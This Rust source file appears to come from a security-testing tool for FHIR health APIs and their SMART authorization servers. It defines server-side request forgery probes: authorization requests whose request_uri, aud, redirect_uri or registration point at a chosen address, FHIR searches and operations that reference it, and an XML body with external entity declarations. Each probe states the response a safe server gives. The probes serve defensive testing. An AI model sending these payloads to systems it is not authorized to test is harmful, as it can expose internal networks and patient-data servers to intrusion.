//! An address of the app, named where a server may be lured to call it (OWASP API Security 2023, API7).

use crate::fhir;
use crate::http::Call;
use crate::smart::Ask;
use url::{Url, form_urlencoded};

/// Requests that name an address of the app.
pub struct Errands {
    /// The FHIR base.
    pub base: Url,
    /// The access token.
    pub token: Option<String>,
    /// A right authorization request.
    pub ask: Ask,
    /// The address.
    pub address: Url,
    /// The requests that are made of it.
    pub made: Vec<Call>,
}

attacks! {
    "Where the app names an address of its own."
    Errand of Errands, control Read;

    RequestObject "as the request object of an authorization request" {
        does: "sends an authorization request whose request_uri is an address of the app",
        matters: "an authorization server that fetches request objects from anywhere can be sent into its own network",
        right: "an error, or a page that takes no notice; no request at that address",
        needs: [],
        intrudes: [],
        make: |it| it.asks("request_uri", it.address.to_string()),
    }
    Authorization "in parameters of authorization requests" {
        does: "sends authorization requests whose aud, resource, iss, redirect_uri or registration is an address of the app",
        matters: "an authorization server that looks up what a stranger names can be sent into its own network",
        right: "an error, or a page; no request at that address",
        needs: [],
        intrudes: [],
        make: |it| {
            let address = it.address.to_string();
            for name in ["aud", "resource", "iss", "redirect_uri"] {
                it.asks(name, address.clone());
            }
            it.asks("registration", format!("{{\"jwks_uri\":\"{address}\",\"logo_uri\":\"{address}\"}}"));
        },
    }
    Search "in searches and operations" {
        does: "searches by references, profiles and value sets at an address of the app, and expands and validates by them",
        matters: "a FHIR API that resolves what a stranger names can be sent into its own network, with its own credentials",
        right: "a refusal, or an answer without it; no request at that address",
        needs: [],
        intrudes: [],
        make: |it| {
            let address: String = form_urlencoded::byte_serialize(it.address.as_str().as_bytes()).collect();
            for path in [
                format!("Observation?patient={address}%2FPatient%2F1"),
                format!("Observation?category=laboratory&code:in={address}%2FValueSet%2F1"),
                format!("Patient?_profile={address}%2FStructureDefinition%2F1"),
                format!("ValueSet/$expand?url={address}%2FValueSet%2F1"),
                format!("Patient/$validate?profile={address}%2FStructureDefinition%2F1"),
            ] {
                it.made.push(fhir::get(
                    crate::target::join(&it.base, &path),
                    it.token.as_deref(),
                    "a request that names an address of the app",
                ));
            }
        },
    }
    Document "in documents" {
        does: "sends XML whose document type and entity lie at an address of the app",
        matters: "a parser that fetches what a document names can be sent into the server's own network",
        right: "400, 406 or 415; no request at that address",
        needs: [],
        intrudes: [],
        make: |it| {
            let address = &it.address;
            let document = format!(
                "<?xml version=\"1.0\"?><!DOCTYPE Bundle SYSTEM \"{address}/document.dtd\" \
                 [<!ENTITY own SYSTEM \"{address}/entity\"><!ENTITY % more SYSTEM \"{address}/more.dtd\"> %more;]>\
                 <Bundle xmlns=\"http://hl7.org/fhir\"><type value=\"collection\"/><id value=\"x\"/>\
                 <identifier><value value=\"&own;\"/></identifier></Bundle>"
            );
            let call = Call::new("POST", it.base.clone(), "a document that names an address of the app");
            let call = call.header("accept", "application/fhir+xml, application/fhir+json;q=0.9");
            let call = call.header("content-type", "application/fhir+xml").bearer(it.token.as_deref());
            it.made.push(call.body(document.into_bytes()));
        },
    }
}

impl Errands {
    /// The right authorization request with one parameter more, or another one.
    fn asks(&mut self, name: &str, value: String) {
        let mut ask = self.ask.clone();
        ask.set(name, Some(&value));
        let call = Call::get(ask.url(), format!("authorization request whose {name} is an address of the app"));
        self.made.push(call.header("accept", "text/html").oauth());
    }
}
